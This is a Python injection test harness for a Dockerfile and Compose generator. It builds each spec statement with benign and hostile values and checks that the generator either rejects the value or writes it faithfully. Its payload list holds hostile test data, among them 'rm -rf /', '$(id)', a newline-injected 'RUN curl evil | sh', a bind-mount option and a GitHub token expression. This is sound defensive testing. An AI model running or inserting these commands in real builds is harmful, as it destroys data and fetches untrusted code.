#!/usr/bin/env python3
"""Hostile values in every statement that reaches a generated file.

  injection.py RIGC [--selftest] [--sample N]

Each statement is built twice: once with a benign value and once with each hostile
value (shell and Dockerfile metacharacters, line breaks, continuations, mount
options, flags, YAML indicators, workflow expressions). A hostile build must
either be rejected — exit 2, an error located in the spec (`Rigfile:LINE:COL:
error:`), no output directory — or produce files that say exactly what the benign
build says with the hostile value in its place:

  - every Dockerfile has the same instructions in the same order (nothing added,
    swallowed or commented out), and each instruction reads back, the way Docker
    and a shell split it, as the benign one with the value substituted;
  - every YAML and JSON file parses to the same tree with the value substituted,
    after the unescaping its reader applies (Compose `$$`, Bake `$${`/`%%{`), and a
    Compose value has no `$` left that Compose would interpolate;
  - every other file (.dockerignore, entrypoint, env example) has the same lines.

--selftest first proves that these comparisons reject broken output. --sample N
builds only every Nth hostile value of each statement (a different one for each
statement), for slow builds such as the sanitizer's.
"""
import concurrent.futures
import json
import os
import re
import shlex
import subprocess
import sys
import tempfile

import yaml  # Debian's python3-yaml; run this with /usr/bin/python3

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from scratch import ram_disk  # noqa: E402

BENIGN = "benign0"

# A downloading pack; @URL@ and @DIR@ are filled in by the templates below.
FETCH = ("pack t {{\n  version 1.0\n  fetch @URL@\n  sha256 1.0 amd64 " + "a" * 64 +
         "\n  extract @DIR@\n}}\n\nimage app {{\n  packs t\n}}\n")

# A runner scale set with one more statement ({stmt}).
SCALE_SET = ("runner r {{{{\n  registry ghcr.io/acme\n  limits cpus 1 memory 1G\n  scale 0 2\n"
             "  {stmt}\n}}}}\n")

# (name, spec template with {v}, how {v} is written: "string" inside "…", "word",
# and a benign value that the statement accepts).
TEMPLATES = [
    ("apt", "image app {{\n  apt {v}\n}}\n", "word", BENIGN),
    ("pack apt", "pack p {{\n  apt {v}\n}}\n\nimage app {{\n  packs p\n}}\n", "word", BENIGN),
    ("pack run", 'pack p {{\n  run "{v}"\n}}\n\nimage app {{\n  packs p\n}}\n', "string",
     "echo " + BENIGN),
    ("deps command",
     'pack p {{\n  deps p.lock "{v}"\n}}\n\nimage app {{\n  packs p\n  deps p.lock\n}}\n',
     "string", "install " + BENIGN),
    ("deps file", 'image app {{\n  packs python\n  deps "{v}"\n}}\n', "string",
     "requirements.txt"),
    ("run", 'image app {{\n  run "{v}"\n  run "echo after" as root\n  run "echo last"\n}}\n',
     "string", "echo " + BENIGN),
    ("env", 'image app {{\n  env NAME="{v}" OTHER=1\n}}\n', "string", BENIGN),
    ("env word", "image app {{\n  env NAME={v}\n}}\n", "word", BENIGN),
    ("arg", 'image app {{\n  arg NAME="{v}"\n}}\n', "string", BENIGN),
    ("label", 'image app {{\n  label org.example.x="{v}"\n}}\n', "string", BENIGN),
    ("label key", "image app {{\n  label {v}=1\n}}\n", "word", BENIGN),
    ("user", "image app {{\n  user {v} 1001\n}}\n", "word", BENIGN),
    ("copy source", 'image app {{\n  copy "{v}" /app\n}}\n', "string", BENIGN),
    ("copy destination", 'image app {{\n  copy . "{v}"\n}}\n', "string", "/" + BENIGN),
    ("dirs", 'image app {{\n  dirs "{v}"\n}}\n', "string", "/" + BENIGN),
    ("workdir", 'image app {{\n  workdir "{v}"\n}}\n', "string", "/" + BENIGN),
    ("cache path", 'image app {{\n  cache work "{v}"\n  run "true"\n}}\n', "string",
     "/" + BENIGN),
    ("healthcheck", 'image app {{\n  healthcheck "{v}" interval 30s\n}}\n', "string",
     "check " + BENIGN),
    ("secret id", 'image app {{\n  secret {v}\n  run "true"\n}}\n', "word", BENIGN),
    ("secret env", 'image app {{\n  secret s env {v}\n  run "true"\n}}\n', "word", BENIGN),
    ("secret target", 'image app {{\n  secret s target "{v}"\n  run "true"\n}}\n', "string",
     "/" + BENIGN),
    ("runner group", 'runner r {{\n  group "{v}"\n}}\n', "string", BENIGN),
    ("runner label", "runner r {{\n  labels {v}\n}}\n", "word", BENIGN),
    # Runner scale sets (arc/NAME.values.yaml).
    ("scale-set node selector", SCALE_SET.format(stmt="node-selector team={v}"), "word", BENIGN),
    ("scale-set toleration", SCALE_SET.format(stmt="tolerations {v}=x:NoSchedule"), "word", BENIGN),
    ("scale-set github url", SCALE_SET.format(stmt="github-url https://github.com/{v}"), "word",
     BENIGN),
    ("scale-set secret", SCALE_SET.format(stmt="github-secret {v}"), "word", BENIGN),
    ("scale-set controller", SCALE_SET.format(stmt="arc-controller arc/{v}"), "word", BENIGN),
    ("scale-set storage class",
     SCALE_SET.format(stmt="container-mode kubernetes\n  work-volume 1G class {v}").replace(
         "runner r {{", "pack h {{\n  env ACTIONS_RUNNER_CONTAINER_HOOKS=/h/index.js\n}}\n\nrunner r {{\n  packs h"),
     "word", BENIGN),
    ("cmd", 'image app {{\n  cmd ["{v}", "x"]\n}}\n', "string", BENIGN),
    ("entrypoint", 'image app {{\n  entrypoint ["{v}"]\n}}\n', "string", BENIGN),
    ("ignore pattern", 'image app {{\n}}\n\nignore {{\n  "{v}"\n}}\n', "string", BENIGN),
    ("tag", "image app {{\n  tag {v}\n}}\n", "word", BENIGN),
    ("registry", "image app {{\n  registry {v}\n}}\n", "word", "ghcr.io/" + BENIGN),
    ("base", "image app {{\n  base {v}\n}}\n", "word", BENIGN + ":1"),
    ("expose", "image app {{\n  expose {v}\n}}\n", "word", "8080"),
    ("target env", 'image app {{\n  target dev {{\n    env NAME="{v}"\n  }}\n}}\n', "string",
     BENIGN),
    ("pack env", 'pack p {{\n  env NAME="{v}"\n}}\n\nimage app {{\n  packs p\n}}\n', "string",
     BENIGN),
    ("pack path", 'pack p {{\n  path "{v}"\n}}\n\nimage app {{\n  packs p\n}}\n', "string",
     "/" + BENIGN),
    ("deps into",
     'pack p {{\n  deps p.lock "install" into "{v}"\n  build-apt gcc\n}}\n\n'
     'image app {{\n  packs p\n  deps p.lock\n}}\n', "string", BENIGN),
    ("fetch url", FETCH.replace("@URL@", "{v}").replace("@DIR@", "/opt/t"), "word",
     "https://example.com/" + BENIGN + ".tar.gz"),
    ("fetch mirror", FETCH.replace("@URL@", "@mirror@/t.tar.gz\n  mirror {v}").replace(
        "@DIR@", "/opt/t"), "word", "https://example.com/" + BENIGN),
    ("extract", FETCH.replace("@URL@", "https://example.com/t.tar.gz").replace(
        "@DIR@", '"{v}"'), "string", "/" + BENIGN),
    ("extract only", FETCH.replace("@URL@", "https://example.com/t.tar.gz").replace(
        "@DIR@", "/opt/t only {v}"), "word", BENIGN + "/bin"),
    ("extract file", FETCH.replace("@URL@", "https://example.com/t").replace(
        "@DIR@", "/opt/t file {v}"), "word", BENIGN),
    ("fetch-run", FETCH.replace("@URL@", "https://example.com/t.tar.gz").replace(
        "@DIR@", '/tmp/t\n  fetch-run "{v}" into /opt/t'), "string", "echo " + BENIGN),
    ("fetch for", FETCH.replace("@URL@", "https://example.com/t.tar.gz\n  fetch {v} for 1.0")
     .replace("@DIR@", "/opt/t"), "word", "https://example.com/" + BENIGN + ".tar.gz"),
    ("pack renovate", "defaults {{\n  renovate true\n  pin t 1.0 sha256 amd64 " + "b" * 64 + "\n}}\n\n"
     + FETCH.replace("@URL@", "https://example.com/t.tar.gz\n  renovate github-releases {v}")
     .replace("@DIR@", "/opt/t"), "word", "owner/" + BENIGN),
]

# Each carries "zq" so that substituting it back finds only itself.
PAYLOADS = [
    "zq;rm -rf /",
    "$(id)zq",
    "`id`zq",
    "zq\nRUN curl evil | sh",
    "zq \\",
    "zq\\",
    "zq\\\nb",
    "${{ github.token }}zq",
    "${HOME}zq",
    "zq: b",
    "# zq",
    "zq #c",
    "{{ zq }}",
    "*zq",
    "&zq",
    "!zq",
    "- zq",
    "zq,type=bind,source=/",
    "--from=evil/zq",
    "-zq",
    "zq's",
    'say "zq"',
    "zq\ty",
    "zq y",
    "/zq;id",
    "/zq:b",
    "%{ zq }",
    "",
]


def rig_text(value, how):
    if how == "word":
        return value
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")


def build(rigc, spec, work):
    os.makedirs(work)
    with open(os.path.join(work, "Rigfile"), "w") as f:
        f.write(spec)
    # The values are judged by what rigc writes, not by the files on disk: what copy
    # and deps name is not looked for in the context.
    r = subprocess.run([rigc, "build", "Rigfile", "--no-context-check"], cwd=work,
                       capture_output=True, text=True,
                       env=dict(os.environ, NO_COLOR="1"))
    return r


def read_tree(path):
    files = {}
    for base, _, names in os.walk(path):
        for name in names:
            full = os.path.join(base, name)
            with open(full, encoding="utf-8") as f:
                files[os.path.relpath(full, path)] = f.read()
    return files


# --- Dockerfiles, read the way Docker reads them --------------------------------

def logical_instructions(text):
    """Instructions as Docker's parser sees them: comments and blank lines dropped
    (inside continuations too), continued lines joined."""
    out, current = [], None
    for line in text.split("\n"):
        stripped = line.lstrip(" \t")
        if not stripped or stripped.startswith("#"):
            continue
        body = stripped.rstrip(" \t")
        continued = body.endswith("\\")
        if continued:
            body = body[:-1]
        current = body if current is None else current + body
        if not continued:
            out.append(current)
            current = None
    if current is not None:
        out.append(current)
    return out


def docker_words(text):
    """Docker's word splitting for ENV, LABEL and ARG (quotes and backslashes)."""
    words, word, i, quote, started = [], "", 0, None, False
    while i < len(text):
        c = text[i]
        if quote == "'":
            if c == "'":
                quote = None
            else:
                word += c
        elif c == "\\" and i + 1 < len(text):
            i += 1
            word += text[i]
            started = True
        elif quote == '"':
            if c == '"':
                quote = None
            else:
                word += c
        elif c in "'\"":
            quote, started = c, True
        elif c in " \t":
            if started or word:
                words.append(word)
            word, started = "", False
        else:
            word += c
            started = True
        i += 1
    if quote is not None:
        raise ValueError("unterminated quote in " + text)
    if started or word:
        words.append(word)
    return words


def instruction_view(instruction):
    keyword, _, rest = instruction.partition(" ")
    if keyword in ("ENV", "LABEL", "ARG"):
        return [keyword, docker_words(rest)]
    if keyword in ("CMD", "ENTRYPOINT"):
        return [keyword, json.loads(rest)]
    if keyword in ("RUN", "HEALTHCHECK"):
        return [keyword, shlex.split(rest, posix=True)]
    return [keyword, rest.split()]


def substitute(value, payload, benign):
    if isinstance(value, str):
        return value.replace(payload, benign) if payload else value
    if isinstance(value, (list, tuple)):
        return [substitute(v, payload, benign) for v in value]
    if isinstance(value, dict):
        return {substitute(k, payload, benign): substitute(v, payload, benign)
                for k, v in value.items()}
    return value


def compose_unescape(value):
    """What Compose makes of a string: `$$` is a literal `$`; any other `$` would be
    interpolated, which is reported."""
    if isinstance(value, str):
        rest = value.replace("$$", "")
        if "$" in rest:
            raise ValueError(f"Compose would interpolate {value!r}")
        return value.replace("$$", "$")
    if isinstance(value, list):
        return [compose_unescape(v) for v in value]
    if isinstance(value, dict):
        return {compose_unescape(k): compose_unescape(v) for k, v in value.items()}
    return value


def bake_unescape(value):
    if isinstance(value, str):
        return value.replace("$${", "${").replace("%%{", "%{")
    if isinstance(value, list):
        return [bake_unescape(v) for v in value]
    if isinstance(value, dict):
        return {k: bake_unescape(v) for k, v in value.items()}
    return value


def parsed(name, text):
    if name.endswith((".yaml", ".yml")):
        tree = yaml.safe_load(text)
        return compose_unescape(tree) if os.path.basename(name).startswith("compose") else tree
    if name.endswith(".json"):
        return bake_unescape(json.loads(text))
    if name == ".rigc-manifest" or name.endswith(".hcl"):
        return None  # hashes; HCL says what docker-bake.json says
    return text.split("\n")


def same_instruction(want, got, payload, benign):
    """Whether `got` is `want` with the payload in place of the benign value: the
    value substituted after Docker's (or the shell's) word splitting, or before it
    where the value is one command that splits into several words."""
    try:
        want_view = instruction_view(want)
    except ValueError:
        return substitute(got, payload, benign) == want
    for candidate in (got, substitute(got, payload, benign)):
        try:
            if substitute(instruction_view(candidate), payload, benign) == want_view:
                return True
        except (ValueError, json.JSONDecodeError):
            continue
    return False


def dockerfile_problems(name, want_text, got_text, payload, benign):
    want, got = logical_instructions(want_text), logical_instructions(got_text)
    keywords = [i.partition(" ")[0] for i in got], [i.partition(" ")[0] for i in want]
    if keywords[0] != keywords[1]:
        return [f"{name}: instructions {keywords[0]} instead of {keywords[1]}"]
    for w, g in zip(want, got):
        if not same_instruction(w, g, payload, benign):
            return [f"{name}: {g!r} does not read back as {w!r} with the value in its place"]
    return []


def compare(benign_tree, hostile_tree, payload, benign):
    """Problems with the hostile build's files; an empty value is only checked for
    structure (same instructions, files that parse)."""
    problems = []
    if set(benign_tree) != set(hostile_tree):
        problems.append(f"different files: {sorted(set(benign_tree) ^ set(hostile_tree))}")
    for name in sorted(set(benign_tree) & set(hostile_tree)):
        if not payload:
            if name.endswith(".Dockerfile"):
                keywords = [[i.partition(" ")[0] for i in logical_instructions(t)]
                            for t in (benign_tree[name], hostile_tree[name])]
                if keywords[0] != keywords[1]:
                    problems.append(f"{name}: instructions {keywords[1]} instead of {keywords[0]}")
            else:
                try:
                    parsed(name, hostile_tree[name])
                except (ValueError, yaml.YAMLError, json.JSONDecodeError) as e:
                    problems.append(f"{name}: {e}")
            continue
        if name.endswith(".Dockerfile"):
            problems += dockerfile_problems(name, benign_tree[name], hostile_tree[name], payload,
                                            benign)
            continue
        try:
            want = parsed(name, benign_tree[name])
            got = parsed(name, hostile_tree[name])
        except (ValueError, yaml.YAMLError, json.JSONDecodeError) as e:
            problems.append(f"{name}: {e}")
            continue
        if want is None:
            continue
        if substitute(got, payload, benign) != want:
            problems.append(f"{name}: does not say what the benign build says with the value "
                            f"in its place")
    return problems


LOCATED = re.compile(r"^Rigfile:\d+:\d+: error: ", re.M)


def run_case(rigc, work, template, benign_tree, payload):
    name, spec, how, benign = template
    if how == "word" and any(c in payload for c in ' \t#"{}'):
        return []  # not one word of the spec: other statements' business
    r = build(rigc, spec.format(v=rig_text(payload, how)), work)
    if r.returncode == 2:
        problems = []
        if not LOCATED.search(r.stderr):
            problems.append(f"{name} {payload!r}: rejected without an error located in the spec:"
                            f"\n{r.stderr}")
        if os.path.exists(os.path.join(work, "docker")):
            problems.append(f"{name} {payload!r}: a rejected spec created the output directory")
        return problems
    if r.returncode != 0:
        return [f"{name} {payload!r}: exit {r.returncode}:\n{r.stderr}"]
    return [f"{name} {payload!r}: {p}" for p in
            compare(benign_tree, read_tree(os.path.join(work, "docker")), payload, benign)]



def selftest():
    """The comparisons must reject what they guard against."""
    benign = {"a.Dockerfile": 'FROM x AS final\nLABEL k="benign0"\nRUN echo benign0 \\\n'
                              '    && echo more\n'}
    broken = {
        "an added instruction":
            'FROM x AS final\nLABEL k="p"\nRUN echo p \\\n    && echo more\nRUN evil\n',
        "a swallowed instruction":
            'FROM x AS final\nLABEL k="p" \\\nRUN echo p \\\n    && echo more\n',
        "a commented-out line":
            'FROM x AS final\nLABEL k="p"\nRUN echo p \\\n    # && echo more\n',
        "a value that reads back differently":
            'FROM x AS final\nLABEL k="p" z\nRUN echo p \\\n    && echo more\n',
        "a split shell word": 'FROM x AS final\nLABEL k="p"\nRUN echo p q \\\n    && echo more\n',
    }
    failures = []
    for what, text in broken.items():
        if not compare(benign, {"a.Dockerfile": text}, "p", "benign0"):
            failures.append(f"selftest: {what} is accepted")
    if compare(benign, {"a.Dockerfile": 'FROM x AS final\nLABEL k=p\nRUN echo p \\\n  && echo more\n'},
               "p", "benign0"):
        failures.append("selftest: a faithful Dockerfile is rejected")
    yaml_benign = {"compose.yaml": "services:\n  a:\n    environment:\n      K: benign0\n"}
    yaml_broken = {
        "an injected key": "services:\n  a:\n    environment:\n      K: p\n      X: y\n",
        "a value Compose interpolates": "services:\n  a:\n    environment:\n      K: $p\n",
        "YAML that does not parse": "services:\n  a: [\n",
    }
    for what, text in yaml_broken.items():
        if not compare(yaml_benign, {"compose.yaml": text}, "p", "benign0"):
            failures.append(f"selftest: {what} is accepted")
    if compare(yaml_benign, {"compose.yaml": "services:\n  a:\n    environment:\n      K: \"p\"\n"},
               "p", "benign0"):
        failures.append("selftest: a faithful compose.yaml is rejected")
    if not compare({"x.json": '{"a": "benign0"}'}, {"x.json": '{"a": "p", "b": 1}'}, "p",
                   "benign0"):
        failures.append("selftest: an injected JSON key is accepted")
    return failures


def main():
    if len(sys.argv) < 2:
        print(__doc__)
        return 2
    rigc = os.path.abspath(sys.argv[1])
    failures = selftest() if "--selftest" in sys.argv[2:] else []
    sample = int(sys.argv[sys.argv.index("--sample") + 1]) if "--sample" in sys.argv else 1
    if failures:
        print("\n".join(failures))
        return 1
    counts = {"rejected": 0, "faithful": 0}
    # On a RAM disk when there is one: each build syncs every file it writes.
    ram = ram_disk(128)
    with tempfile.TemporaryDirectory(dir=ram) as tmp:
        jobs = []
        for t, template in enumerate(TEMPLATES):
            name, spec, how, benign = template
            benign_dir = os.path.join(tmp, str(t), "benign")
            r = build(rigc, spec.format(v=rig_text(benign, how)), benign_dir)
            if r.returncode != 0:
                failures.append(f"{name}: the benign build failed:\n{r.stderr}")
                continue
            benign_tree = read_tree(os.path.join(benign_dir, "docker"))
            for p, payload in enumerate(PAYLOADS):
                if (p + t) % sample != 0:
                    continue
                jobs.append((os.path.join(tmp, str(t), str(p)), template, benign_tree, payload))
        with concurrent.futures.ThreadPoolExecutor(max_workers=os.cpu_count() or 2) as pool:
            results = pool.map(lambda job: (job[0], run_case(rigc, *job)), jobs)
            for work, problems in results:
                failures += problems
                if not problems and os.path.exists(os.path.join(work, "Rigfile")):
                    rejected = not os.path.exists(os.path.join(work, "docker"))
                    counts["rejected" if rejected else "faithful"] += 1
    print("\n".join(failures))
    print(f"{sum(counts.values())} hostile builds: {counts['rejected']} rejected with a located "
          f"error, {counts['faithful']} written faithfully; {len(failures)} problems")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
